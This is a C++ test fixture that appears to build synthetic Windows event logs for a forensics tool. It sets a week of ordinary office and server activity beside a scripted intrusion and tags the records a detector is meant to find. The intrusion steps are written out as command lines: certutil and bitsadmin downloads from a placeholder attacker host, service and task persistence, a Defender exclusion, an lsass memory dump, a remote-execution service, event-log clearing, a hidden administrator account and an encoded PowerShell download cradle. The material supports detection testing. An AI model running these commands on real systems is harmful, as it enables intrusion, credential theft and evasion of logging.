#include "tools/sample_story.hpp"
#include "base/text.hpp"
#include <array>

namespace konseki::test {

namespace {
constexpr std::int64_t minute = 60 * ticks_per_second, hour = 60 * minute, day = 24 * hour;

Timestamp moment(std::string_view text)
{
    return Timestamp::parse(text).value_or(Timestamp {});
}
Timestamp later(Timestamp at, std::int64_t ticks)
{
    return { at.ticks + ticks };
}

constexpr std::string_view domain_sid = "S-1-5-21-2748105366-1184729035-903184467";
constexpr std::string_view attacker = "203.0.113.45", relay = "198.51.100.23";
constexpr std::string_view system32 = "C:\\Windows\\System32\\";

std::string in_system32(std::string_view name)
{
    return std::string(system32) + std::string(name);
}

Account domain_user(std::string_view name, std::uint32_t relative, WindowsMachine& machine)
{
    return { format("{}-{}", domain_sid, relative), std::string(name), machine.domain(), machine.new_logon_id() };
}

struct Habit {
    std::string_view parent, image, command_line;
    bool is_system;
};

constexpr std::array<Habit, 16> office_habits { {
    { "explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE\" \"\\\\FS01\\keiri\\2026\\seikyu_{}.xlsx\"",
        false },
    { "explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE\" /n "
        "\"C:\\Users\\t.sato\\Documents\\memo_{}.docx\"",
        false },
    { "explorer.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
        "\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\"", false },
    { "explorer.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --profile-directory=Default", false },
    { "msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
        "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe\" --type=renderer --renderer-client-id={} "
        "--lang=ja",
        false },
    { "explorer.exe", "C:\\Windows\\System32\\notepad.exe",
        "\"C:\\Windows\\system32\\NOTEPAD.EXE\" C:\\Users\\t.sato\\Desktop\\memo{}.txt", false },
    { "svchost.exe", "C:\\Windows\\System32\\backgroundTaskHost.exe",
        "\"C:\\Windows\\system32\\backgroundTaskHost.exe\" -ServerName:BackgroundTaskHost.WebAccountProvider", false },
    { "svchost.exe", "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe", true },
    { "svchost.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", true },
    { "services.exe", "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s wlidsvc", true },
    { "services.exe", "C:\\Windows\\System32\\svchost.exe",
        "C:\\Windows\\System32\\svchost.exe -k wsappx -p -s AppXSvc", true },
    { "svchost.exe", "C:\\Windows\\System32\\SearchProtocolHost.exe",
        "\"C:\\Windows\\system32\\SearchProtocolHost.exe\" Global\\UsGthrFltPipeMssGthrPipe{}_", true },
    { "services.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26070.5-0\\MpCmdRun.exe",
        "\"MpCmdRun.exe\" SignatureUpdate -ScheduleJob -RestrictPrivileges", true },
    { "explorer.exe", "C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe",
        "\"C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe\" \"C:\\Users\\t.sato\\Downloads\\order_{}.pdf\"",
        false },
    { "svchost.exe", "C:\\Windows\\System32\\dllhost.exe",
        "C:\\Windows\\system32\\DllHost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}", true },
    { "svchost.exe", "C:\\Windows\\System32\\conhost.exe",
        "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1", true },
} };

constexpr std::array<Habit, 8> server_habits { {
    { "services.exe", "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s gpsvc",
        true },
    { "svchost.exe", "C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe Install $(Arg0)", true },
    { "svchost.exe", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", true },
    { "services.exe", "C:\\Program Files\\Example Backup\\agent.exe",
        "\"C:\\Program Files\\Example Backup\\agent.exe\" --job nightly --id {}", true },
    { "services.exe", "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.26070.5-0\\MpCmdRun.exe",
        "\"MpCmdRun.exe\" SignatureUpdate -ScheduleJob -RestrictPrivileges", true },
    { "svchost.exe", "C:\\Windows\\System32\\dllhost.exe",
        "C:\\Windows\\system32\\DllHost.exe /Processid:{E10F6C3A-F1AE-4ADC-AA9D-2FE65525666E}", true },
    { "svchost.exe", "C:\\Windows\\System32\\sppsvc.exe", "C:\\Windows\\system32\\sppsvc.exe", true },
    { "svchost.exe", "C:\\Windows\\servicing\\TrustedInstaller.exe", "C:\\Windows\\servicing\\TrustedInstaller.exe",
        true },
} };

std::string with_number(std::string_view pattern, std::uint64_t number)
{
    std::string text(pattern);
    auto const at = text.find("{}");
    return at == std::string::npos ? text : text.replace(at, 2, format("{}", number));
}

// An ordinary day. Office hours are 00:00–09:00 UTC (09:00–18:00 in Japan).
class Ordinary {
public:
    Ordinary(WindowsMachine& machine, std::span<Habit const> habits, Account user, bool is_server)
        : m_machine(machine)
        , m_habits(habits)
        , m_user(std::move(user))
        , m_is_server(is_server)
        , m_parents({ machine.running(in_system32("services.exe"), in_system32("services.exe"), machine.system()),
              machine.running(
                  in_system32("svchost.exe"), in_system32("svchost.exe -k DcomLaunch -p"), machine.system()),
              machine.running("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", m_user),
              machine.running(
                  "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", "msedge.exe", m_user) })
    {
    }

    void live(Timestamp midnight, std::uint32_t events)
    {
        auto& random = m_machine.random();
        auto at_work = later(midnight, static_cast<std::int64_t>(random.below(15)) * minute);
        if (!m_is_server) {
            m_user.logon_id = m_machine.new_logon_id();
            m_machine.logon(at_work, m_user, 2, "127.0.0.1", m_machine.name(), false);
            m_machine.logoff(later(at_work, 9 * hour), m_user, 2);
        }
        for (std::uint32_t i = 0; i < events; ++i) {
            bool const in_office_hours = !m_is_server && random.chance(80);
            auto const at = in_office_hours
                ? later(at_work, static_cast<std::int64_t>(random.below(9 * 3'600)) * ticks_per_second)
                : later(midnight, static_cast<std::int64_t>(random.below(86'400)) * ticks_per_second);
            one(at);
        }
        m_machine.defender_updated(later(midnight, 3 * hour), format("1.431.{}.0", 100 + random.below(800)));
        m_machine.time_service(later(midnight, 5 * hour), "dc01.corp.example.jp,0x8");
    }

private:
    StartedProcess const& parent(std::string_view name) const
    {
        for (auto const& process : m_parents) {
            if (process.image.ends_with(name))
                return process;
        }
        return m_parents[0];
    }

    void one(Timestamp at)
    {
        constexpr std::array<std::pair<std::string_view, std::string_view>, 6> sites {
            { { "outlook.example.net", "192.0.2.10" }, { "update.example.com", "192.0.2.44" },
                { "www.example.co.jp", "192.0.2.81" }, { "login.example.net", "192.0.2.12" },
                { "cdn.example.com", "192.0.2.130" }, { "keiri.example.jp", "192.0.2.201" } }
        };
        constexpr std::array<std::string_view, 8> services { "Windows Update",
            "Background Intelligent Transfer Service", "Windows Modules Installer", "Software Protection",
            "WinHTTP Web Proxy Auto-Discovery Service", "Network Setup Service", "Application Experience",
            "Device Setup Manager" };
        auto& random = m_machine.random();
        auto const kind = random.below(100);
        if (kind < 38) {
            auto const& habit = random.pick(m_habits);
            auto const process = m_machine.process(at, habit.is_system ? m_machine.system() : m_user,
                parent(habit.parent), habit.image, with_number(habit.command_line, random.between(1, 9'999)));
            if (random.chance(25))
                m_machine.image_loaded(later(at, ticks_per_second / 5), process,
                    in_system32(random.chance(50) ? "version.dll" : "dbghelp.dll"), true, "Microsoft Windows");
        } else if (kind < 58) {
            auto account = m_machine.system();
            account.logon_id = 0x3e7;
            m_machine.logon(at, account, 5, "", "", true);
        } else if (kind < 66 && m_is_server) {
            constexpr std::array<std::pair<std::string_view, std::uint32_t>, 4> people { { { "t.sato", 1'112 },
                { "m.suzuki", 1'113 }, { "y.tanaka", 1'120 }, { "k.mori", 1'131 } } };
            auto const& person = random.pick(std::span<std::pair<std::string_view, std::uint32_t> const>(people));
            auto const account = domain_user(person.first, person.second, m_machine);
            m_machine.logon(at, account, 3, format("10.20.3.{}", person.second % 50 + 10),
                "PC" + format("{:02}", person.second % 20), false);
            m_machine.share_access(later(at, ticks_per_second), account, format("10.20.3.{}", person.second % 50 + 10),
                "\\\\*\\keiri", format("2026\\seikyu_{}.xlsx", random.between(1, 400)));
            m_machine.logoff(later(at, 10 * minute), account, 3);
        } else if (kind < 72) {
            m_machine.service_state(at, random.pick(std::span<std::string_view const>(services)),
                random.chance(50) ? "running" : "stopped");
        } else if (kind < 84) {
            auto const& site = random.pick(std::span<std::pair<std::string_view, std::string_view> const>(sites));
            auto const& by = parent(m_is_server ? "svchost.exe" : "msedge.exe");
            m_machine.dns_query(at, by, site.first, format("::ffff:{};", site.second));
            m_machine.network_connection(later(at, ticks_per_second), by, site.second, site.first, 443);
        } else if (kind < 90) {
            m_machine.file_created(at, parent(m_is_server ? "svchost.exe" : "msedge.exe"),
                m_is_server ? format("C:\\Windows\\Temp\\wct{:04X}.tmp", random.below(65'536))
                            : format("C:\\Users\\t.sato\\Downloads\\order_{}.pdf", random.below(9'999)));
        } else if (kind < 94) {
            m_machine.task_ran(at,
                random.chance(50) ? "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan"
                                  : "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag",
                random.chance(50) ? "C:\\Windows\\system32\\usoclient.exe" : "C:\\Windows\\system32\\defrag.exe");
        } else if (kind < 97) {
            m_machine.registry_set(at, parent("svchost.exe"),
                format("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Diagnostics\\PerfTrack\\LastRun{}",
                    random.below(20)),
                format("QWORD (0x01dd{:04x}-0x{:08x})", random.below(65'536), random.below(1ULL << 32)));
        } else if (kind < 98) {
            m_machine.application(at, "ESENT", 326,
                { "svchost", format("{}", random.between(1'000, 9'000)), "DS_Token_DB: ", "1",
                    "C:\\Windows\\system32\\DataStore.edb" });
        } else {
            auto const script = m_is_server
                ? std::string_view("Get-ChildItem -Path 'D:\\Backup' -Recurse | Where-Object { $_.LastWriteTime -lt "
                                   "(Get-Date).AddDays(-30) } | Remove-Item")
                : std::string_view("Get-Printer | Where-Object { $_.PrinterStatus -ne 'Normal' }");
            m_machine.powershell_script(at, m_machine.system(), 4'120, script,
                m_is_server ? "D:\\Scripts\\cleanup.ps1" : "C:\\ProgramData\\Example\\printers.ps1", false);
        }
    }

    WindowsMachine& m_machine;
    std::span<Habit const> m_habits;
    Account m_user;
    bool m_is_server;
    std::array<StartedProcess, 4> m_parents;
};

class Intrusion {
public:
    explicit Intrusion(SampleStory& story)
        : m_story(story)
        , m_pool { "S-1-5-82-3006700770-424185619-1745488364-794895919-4004696415", "DefaultAppPool", "IIS APPPOOL",
            0x51a3c }
        , m_worker(story.web.running("C:\\Windows\\System32\\inetsrv\\w3wp.exe",
              "c:\\windows\\system32\\inetsrv\\w3wp.exe -ap \"DefaultAppPool\" -v \"v4.0\" -l \"webengine4.dll\" -a "
              "\\\\.\\pipe\\iisipm8c2f -h \"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config\"",
              m_pool))
        , m_services(
              story.files.running(in_system32("services.exe"), in_system32("services.exe"), story.files.system()))
        , m_admin(domain_user("adm-ito", 1'105, story.files))
    {
    }

    void run()
    {
        web_shell();
        foothold();
        persistence();
        credentials();
        sideways();
        clearing();
        remote_desktop();
    }

private:
    void plant(WindowsMachine const& machine, std::string channel, std::uint32_t event_id, std::string needle,
        std::string what)
    {
        m_story.planted.push_back({ machine.name(), std::move(channel), event_id, std::move(needle), std::move(what) });
    }

    void web_shell()
    {
        auto& web = m_story.web;
        auto at = moment("2026-09-08T15:02:11Z"); // 00:02 in Japan
        web.defender_found(later(at, -40 * minute), "Backdoor:ASP/Shellcheck.A",
            "file:_C:\\inetpub\\wwwroot\\uploads\\img_0411.asp", m_pool);
        plant(web, "Microsoft-Windows-Windows Defender/Operational", 1116, "img_0411.asp",
            "a first web shell is found and quarantined");
        web.file_created(at, m_worker, "C:\\inetpub\\wwwroot\\uploads\\img_thumb.aspx");
        plant(web, "Microsoft-Windows-Sysmon/Operational", 11, "img_thumb.aspx",
            "the web server's worker writes a second web shell");
        for (auto const* const command : { "whoami /all", "ipconfig /all", "tasklist /v", "net user /domain",
                 "net group \"Domain Admins\" /domain", "nltest /domain_trusts", "systeminfo" }) {
            at = later(at, static_cast<std::int64_t>(web.random().between(20, 90)) * ticks_per_second);
            auto const shell
                = web.process(at, m_pool, m_worker, in_system32("cmd.exe"), format("\"cmd.exe\" /c {}", command),
                    { "10.0.17763.1", "Windows Command Processor", "Microsoft® Windows® Operating System",
                        "Microsoft Corporation", "Cmd.Exe" });
            std::string_view const line = command;
            auto const name = line.substr(0, line.find(' '));
            web.process(
                later(at, ticks_per_second / 3), m_pool, shell, in_system32(std::string(name) + ".exe"), command);
        }
        plant(web, "Security", 4688, "whoami /all", "the web server's worker starts a shell (web shell)");
        plant(web, "Microsoft-Windows-Sysmon/Operational", 1, "net group \"Domain Admins\" /domain",
            "domain administrators are listed from the web shell");
    }

    void foothold()
    {
        auto& web = m_story.web;
        auto at = moment("2026-09-08T15:21:40Z");
        auto const shell = web.process(at, m_pool, m_worker, in_system32("cmd.exe"),
            format("\"cmd.exe\" /c certutil -urlcache -split -f http://{}/images/banner.gif "
                   "C:\\ProgramData\\OEM\\print.dat",
                attacker));
        auto const certutil = web.process(later(at, ticks_per_second), m_pool, shell, in_system32("certutil.exe"),
            format(
                "certutil  -urlcache -split -f http://{}/images/banner.gif C:\\ProgramData\\OEM\\print.dat", attacker),
            { "10.0.17763.1", "CertUtil.exe", "Microsoft® Windows® Operating System", "Microsoft Corporation",
                "CertUtil.exe" });
        web.network_connection(later(at, 2 * ticks_per_second), certutil, attacker, "-", 80);
        web.file_created(later(at, 3 * ticks_per_second), certutil, "C:\\ProgramData\\OEM\\print.dat");
        plant(web, "Security", 4688, "certutil  -urlcache",
            "certutil fetches a payload (this record is hidden as eventlogedit does it)");
        plant(web, "Microsoft-Windows-Sysmon/Operational", 3, std::string(attacker),
            "certutil talks to the attacker's server");
        at = later(at, 3 * minute);
        web.process(at, m_pool, shell, in_system32("bitsadmin.exe"),
            format("bitsadmin  /transfer oem /download /priority FOREGROUND http://{}/images/logo.png "
                   "C:\\ProgramData\\OEM\\OEMPrintAssist.exe",
                attacker));
        web.bits_transfer(later(at, ticks_per_second), "oem", format("http://{}/images/logo.png", attacker), 318'464);
        plant(web, "Microsoft-Windows-Bits-Client/Operational", 59, "images/logo.png",
            "BITS fetches the program that will load the implant");
        at = later(at, 4 * minute);
        auto const loader = web.process(at, web.system(),
            web.running(in_system32("services.exe"), in_system32("services.exe"), web.system()),
            "C:\\ProgramData\\OEM\\OEMPrintAssist.exe", "C:\\ProgramData\\OEM\\OEMPrintAssist.exe -svc",
            { "6.2.0.118", "Print Assistant", "Example Print Suite", "Example Devices K.K.", "PrintAssist.exe" });
        web.image_loaded(later(at, ticks_per_second / 2), loader, "C:\\ProgramData\\OEM\\version.dll", false, "-");
        plant(web, "Microsoft-Windows-Sysmon/Operational", 7, "C:\\ProgramData\\OEM\\version.dll",
            "a signed program loads an unsigned version.dll beside it (side-loading)");
        for (int beacon = 0; beacon < 60; ++beacon) {
            auto const when = later(at, (beacon * 47 + static_cast<std::int64_t>(web.random().below(9))) * minute);
            web.dns_query(when, loader, "telemetry.print-assist.example", format("::ffff:{};", relay));
            web.network_connection(later(when, ticks_per_second), loader, relay, "telemetry.print-assist.example", 443);
        }
        plant(
            web, "Microsoft-Windows-Sysmon/Operational", 22, "telemetry.print-assist.example", "the implant's beacon");
    }

    void persistence()
    {
        auto& web = m_story.web;
        auto at = moment("2026-09-08T15:27:05Z");
        auto const shell = web.process(at, web.system(), m_worker, in_system32("cmd.exe"),
            "cmd.exe /c sc create OEMPrintAssist binPath= \"C:\\ProgramData\\OEM\\OEMPrintAssist.exe -svc\" start= "
            "auto");
        web.process(later(at, ticks_per_second), web.system(), shell, in_system32("sc.exe"),
            "sc  create OEMPrintAssist binPath= \"C:\\ProgramData\\OEM\\OEMPrintAssist.exe -svc\" start= auto");
        web.service_installed(later(at, 2 * ticks_per_second), web.system(), "OEMPrintAssist",
            "C:\\ProgramData\\OEM\\OEMPrintAssist.exe -svc", "auto start");
        plant(web, "System", 7045, "OEMPrintAssist", "a service that starts the implant");
        at = later(at, 90 * ticks_per_second);
        web.process(at, web.system(), shell, in_system32("schtasks.exe"),
            "schtasks  /create /tn \"\\Microsoft\\Windows\\OEM\\PrintAssist\" /tr "
            "\"C:\\ProgramData\\OEM\\OEMPrintAssist.exe -task\" /sc minute /mo 30 /ru SYSTEM /f");
        web.task_registered(later(at, ticks_per_second), web.system(), "\\Microsoft\\Windows\\OEM\\PrintAssist",
            "C:\\ProgramData\\OEM\\OEMPrintAssist.exe", "-task");
        for (int run = 1; run < 24; ++run)
            web.task_ran(later(at, run * 30 * minute), "\\Microsoft\\Windows\\OEM\\PrintAssist",
                "C:\\ProgramData\\OEM\\OEMPrintAssist.exe");
        plant(web, "Security", 4698, "OEM\\PrintAssist", "a scheduled task that starts the implant again");
        web.powershell_engine_started(later(at, 2 * minute),
            "powershell.exe -NoP -W Hidden -C Add-MpPreference -ExclusionPath C:\\ProgramData\\OEM");
        web.powershell_script(later(at, 2 * minute), web.system(), 5'532,
            "Add-MpPreference -ExclusionPath C:\\ProgramData\\OEM", "", true);
        web.defender_changed(later(at, 125 * ticks_per_second),
            "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\ProgramData\\OEM = 0x0");
        plant(web, "Microsoft-Windows-Windows Defender/Operational", 5007, "Exclusions\\Paths\\C:\\ProgramData\\OEM",
            "Defender no longer looks at the implant's folder");
    }

    void credentials()
    {
        auto& web = m_story.web;
        auto const at = moment("2026-09-09T17:44:30Z");
        auto const shell = web.process(at, web.system(),
            web.running("C:\\ProgramData\\OEM\\OEMPrintAssist.exe", "C:\\ProgramData\\OEM\\OEMPrintAssist.exe -svc",
                web.system()),
            in_system32("cmd.exe"), "C:\\Windows\\system32\\cmd.exe");
        auto const dumper
            = web.process(later(at, 40 * ticks_per_second), web.system(), shell, in_system32("rundll32.exe"),
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Windows\\Temp\\wct9A1F.tmp full");
        auto const lsass = web.running(in_system32("lsass.exe"), in_system32("lsass.exe"), web.system());
        web.process_access(later(at, 41 * ticks_per_second), dumper, lsass, 0x1fffff);
        web.file_created(later(at, 42 * ticks_per_second), dumper, "C:\\Windows\\Temp\\wct9A1F.tmp");
        plant(web, "Microsoft-Windows-Sysmon/Operational", 10, "lsass.exe", "the memory of lsass is read");
        plant(web, "Security", 4688, "comsvcs.dll, MiniDump", "the memory of lsass is dumped with comsvcs.dll");
        web.process(later(at, 5 * minute), web.system(), shell, in_system32("reg.exe"),
            "reg  save HKLM\\SAM C:\\Windows\\Temp\\s.tmp");
        web.explicit_logon(later(at, 20 * minute), web.system(), m_admin, "fs01.corp.example.jp", shell);
        plant(web, "Security", 4648, "fs01.corp.example.jp", "a stolen administrator account is used for FS01");
    }

    void sideways()
    {
        auto& files = m_story.files;
        auto const at = moment("2026-09-09T18:04:52Z");
        files.logon(at, m_admin, 3, m_story.web.address(), m_story.web.name(), true);
        files.share_access(later(at, ticks_per_second), m_admin, m_story.web.address(), "\\\\*\\IPC$", "svcctl");
        files.share_access(
            later(at, 2 * ticks_per_second), m_admin, m_story.web.address(), "\\\\*\\ADMIN$", "Temp\\kTgXwQzP.exe");
        files.service_installed(later(at, 3 * ticks_per_second), m_admin, "kTgXwQzP",
            "%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat & %COMSPEC% /Q /c "
            "%TEMP%\\execute.bat & del %TEMP%\\execute.bat",
            "demand start");
        plant(files, "System", 7045, "kTgXwQzP",
            "lateral movement: a service with a random name runs commands from WEB01");
        auto const shell
            = files.process(later(at, 4 * ticks_per_second), files.system(), m_services, in_system32("cmd.exe"),
                "C:\\Windows\\system32\\cmd.exe /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > "
                "C:\\Windows\\TEMP\\execute.bat");
        files.process(later(at, 3 * minute), files.system(), shell, in_system32("vssadmin.exe"),
            "vssadmin  create shadow /for=C:");
        files.process(later(at, 9 * minute), files.system(), shell, "C:\\PerfLogs\\svchost.exe",
            "C:\\PerfLogs\\svchost.exe a -hpK2m9 -m5 -v200m C:\\PerfLogs\\r.dat D:\\share\\keiri\\*.xlsx",
            { "7.11.0", "Command line archiver", "WinRAR", "Alexander Roshal", "Rar.exe" });
        plant(files, "Microsoft-Windows-Sysmon/Operational", 1, "C:\\PerfLogs\\svchost.exe a -hp",
            "a renamed archiver packs the accounting share");
        for (int part = 1; part <= 4; ++part)
            files.file_created(later(at, (9 + part) * minute),
                files.running("C:\\PerfLogs\\svchost.exe", "C:\\PerfLogs\\svchost.exe a", files.system()),
                format("C:\\PerfLogs\\r.part{}.dat", part));
    }

    void clearing()
    {
        auto& files = m_story.files;
        auto const at = moment("2026-09-09T19:12:00Z");
        auto const shell = files.running(in_system32("cmd.exe"), in_system32("cmd.exe"), m_admin);
        files.process(at, m_admin, shell, in_system32("wevtutil.exe"), "wevtutil  cl Security");
        // What the security log held until now is gone from it; only slack space remembers.
        auto logs = files.take_logs();
        m_story.cleared = std::move(logs["Security"]);
        logs.erase("Security");
        m_kept = std::move(logs);
        files.audit_log_cleared(later(at, ticks_per_second), m_admin);
        plant(files, "Security", 1102, "adm-ito", "the security log is cleared");
        files.process(later(at, 30 * ticks_per_second), m_admin, shell, in_system32("wevtutil.exe"),
            "wevtutil  cl \"Windows PowerShell\"");
        files.system_log_cleared(later(at, 31 * ticks_per_second), m_admin, "Windows PowerShell");
        plant(files, "System", 104, "Windows PowerShell", "another log is cleared");
    }

    void remote_desktop()
    {
        auto& desk = m_story.desk;
        auto& directory = m_story.directory;
        auto const spray = moment("2026-09-10T14:31:00Z");
        std::int64_t step = 0;
        for (auto const* const name : { "administrator", "admin", "backup", "scan", "y.tanaka", "t.sato", "m.suzuki",
                 "k.mori", "it-support", "vpnuser", "test", "guest1" })
            directory.logon_failed(
                later(spray, (step += 7) * ticks_per_second), name, directory.domain(), 3, "10.20.250.33", 0xc000006a);
        plant(directory, "Security", 4625, "10.20.250.33", "passwords are tried from an address of the VPN");

        auto const at = moment("2026-09-10T16:50:12Z"); // 01:50 in Japan
        auto user = domain_user("y.tanaka", 1'120, desk);
        desk.logon(at, user, 10, "10.20.250.33", desk.name(), false);
        desk.remote_desktop(at, user, "10.20.250.33", 3);
        plant(desk, "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational", 21, "10.20.250.33",
            "remote desktop at night from the VPN with a valid account");
        auto const admin = Account { m_admin.sid, m_admin.name, m_admin.domain, desk.new_logon_id() };
        auto const later_at = later(at, 14 * minute);
        desk.logon(later_at, admin, 10, m_story.files.address(), desk.name(), true);
        desk.remote_desktop(later_at, admin, m_story.files.address(), 4);
        plant(desk, "Security", 4624, m_story.files.address(),
            "remote desktop from the file server with an administrator account");
        auto const explorer = desk.running("C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", admin);
        auto const shell = desk.process(
            later(later_at, minute), admin, explorer, in_system32("cmd.exe"), "\"C:\\Windows\\system32\\cmd.exe\"");
        desk.process(
            later(later_at, 2 * minute), admin, shell, in_system32("net.exe"), "net  user helpdesk$ Mx7!pR2wq /add");
        auto const new_sid = desk.local_sid(1'009);
        desk.account_created(later(later_at, 2 * minute + ticks_per_second), admin, "helpdesk$", new_sid);
        desk.group_member_added(later(later_at, 3 * minute), admin, new_sid, "Administrators", "S-1-5-32-544");
        plant(desk, "Security", 4720, "helpdesk$", "a local account that looks like a machine");
        plant(desk, "Security", 4732, new_sid, "and is made an administrator");
        constexpr std::string_view encoded
            = "powershell.exe -nop -w hidden -enc "
              "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQA"
              "UwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADIAMwAvAGEAJwApAA==";
        auto const power_shell = desk.process(later(later_at, 6 * minute), admin, shell,
            in_system32("WindowsPowerShell\\v1.0\\powershell.exe"), encoded,
            { "10.0.19041.1", "Windows PowerShell", "Microsoft® Windows® Operating System", "Microsoft Corporation",
                "PowerShell.EXE" });
        desk.powershell_engine_started(later(later_at, 6 * minute + ticks_per_second), encoded);
        desk.powershell_script(later(later_at, 6 * minute + 2 * ticks_per_second), admin, power_shell.id,
            format("IEX (New-Object Net.WebClient).DownloadString('http://{}/a')", relay), "", true);
        desk.network_connection(later(later_at, 6 * minute + 3 * ticks_per_second), power_shell, relay, "-", 80);
        plant(desk, "Microsoft-Windows-PowerShell/Operational", 4104, "DownloadString",
            "PowerShell runs code from the attacker's relay");
        desk.registry_set(later(later_at, 9 * minute), power_shell,
            "HKU\\S-1-5-21-2748105366-1184729035-903184467-"
            "1112\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\PrintAssist",
            "C:\\ProgramData\\OEM\\OEMPrintAssist.exe");
        plant(desk, "Microsoft-Windows-Sysmon/Operational", 13, "CurrentVersion\\Run\\PrintAssist",
            "a Run key starts the implant for the accountant");
        desk.remote_desktop_ended(later(later_at, 40 * minute), admin, m_story.files.address(), 4);
    }

public:
    std::map<std::string, std::vector<WrittenEvent>> m_kept; // FS01's other logs from before the clearing

private:
    SampleStory& m_story;
    Account m_pool;
    StartedProcess m_worker, m_services;
    Account m_admin;
};
}

SampleStory::SampleStory(std::uint64_t seed)
    : web("WEB01", "corp.example.jp", "EXAMPLE", "10.20.1.11", seed)
    , files("FS01", "corp.example.jp", "EXAMPLE", "10.20.1.12", seed + 1)
    , desk("PC07", "corp.example.jp", "EXAMPLE", "10.20.3.27", seed + 2)
    , directory("DC01", "corp.example.jp", "EXAMPLE", "10.20.1.10", seed + 3)
{
    auto const monday = moment("2026-09-07T00:00:00Z");
    Ordinary web_days(web, server_habits, web.system(), true);
    Ordinary file_days(files, server_habits, files.system(), true);
    Ordinary desk_days(desk, office_habits, domain_user("t.sato", 1'112, desk), false);
    Ordinary directory_days(directory, server_habits, directory.system(), true);
    for (auto* const machine : { &web, &files, &desk, &directory })
        machine->event_log_started(later(monday, -2 * minute));
    for (int i = 0; i < 3; ++i)
        file_days.live(later(monday, i * day), 180);
    Intrusion intrusion(*this);
    intrusion.run();
    for (int i = 0; i < 5; ++i) {
        web_days.live(later(monday, i * day), 260);
        desk_days.live(later(monday, i * day), 320);
        directory_days.live(later(monday, i * day), 60);
        if (i >= 3)
            file_days.live(later(monday, i * day), 180);
    }
    files.put_back(std::move(intrusion.m_kept));
}

}
